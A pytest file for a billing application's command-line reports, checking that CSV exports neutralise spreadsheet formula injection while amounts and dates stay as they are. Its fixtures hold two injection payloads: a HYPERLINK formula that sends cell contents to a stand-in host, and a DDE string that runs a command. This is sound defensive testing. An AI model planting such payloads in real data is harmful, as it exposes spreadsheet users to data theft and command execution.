"""CSV written by a report neutralises text a spreadsheet would run as a formula (issue 8,
item 14): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is written after a ``'``; money (negative amounts too), counts, dates, times and ids are
written as they are. The same rows as JSON or a table are not changed. On the code before
the fix, the patient's name and the refund's reason below reached the file as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from .harness import Cli

NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Ivy Marlowe")'
REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
PERIOD = ("--from", "2024-03-01", "--to", "2024-03-02")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def paid(cli: Cli, practice: None) -> Cli:
    """A patient named like a formula, who paid 150.00 and owes 10.00 of a 100.00 service,
    and was refunded 10.00 with a reason like a formula."""
    cli.ok("patient", "add", "P9", "--name", NAME)
    cli.ok(
        "invoice",
        "create",
        "--patient",
        "P9",
        "--location",
        "MAIN",
        "--line",
        "item=90801,provider=DR1,date=2024-03-02",
    )
    cli.ok(
        "payment",
        "record",
        "--from",
        "P9",
        "--amount",
        "150.00",
        "--method",
        "cash",
        "--received",
        "2024-03-02",
        "--location",
        "MAIN",
    )
    cli.ok("payment", "allocate", "PAY-000005", "--to", "L-000004=90.00")
    cli.ok("payment", "refund", "PAY-000005", "--amount", "10.00", "--reason", REASON)
    return cli


def test_text_like_a_formula_is_neutralised_and_numbers_stay_numbers(paid: Cli) -> None:
    result = paid("report", "income-allocation", *PERIOD, "--format", "csv")
    assert (result.status, result.err) == (0, "")
    mine = [r for r in rows(result.out) if r["client"].endswith('Ivy Marlowe")')]
    assert [
        (r["client"], r["bill"], r["payment_amount"], r["service_dates"], r["notes"]) for r in mine
    ] == [
        ("'" + NAME, "INV-000003", "90.00", "2024-03-02", ""),
        ("'" + NAME, "", "-10.00", "", "'" + REASON),
    ]
    assert all(r["time"].startswith("2024-03-02 ") for r in mine)


def test_the_debtors_csv_neutralises_names_and_keeps_amounts(paid: Cli) -> None:
    result = paid("report", "debtors", "--format", "csv")
    [mine] = [r for r in rows(result.out) if r["code"] == "P9"]
    assert (mine["debtor"], mine["total"], mine["credit"]) == ("'" + NAME, "10.00", "50.00")


def test_the_same_rows_as_json_are_as_kept(paid: Cli) -> None:
    data = paid.ok("report", "income-allocation", *PERIOD, "--format", "json")
    assert [r["notes"] for r in data["rows"] if r["client"] == NAME] == [None, REASON]


def test_a_csv_file_written_with_output_is_neutralised(paid: Cli, tmp_path: Path) -> None:
    path = tmp_path / "debtors.csv"
    assert paid("report", "debtors", "--format", "csv", "--output", str(path)).status == 0
    [mine] = [r for r in rows(path.read_text()) if r["code"] == "P9"]
    assert mine["debtor"] == "'" + NAME
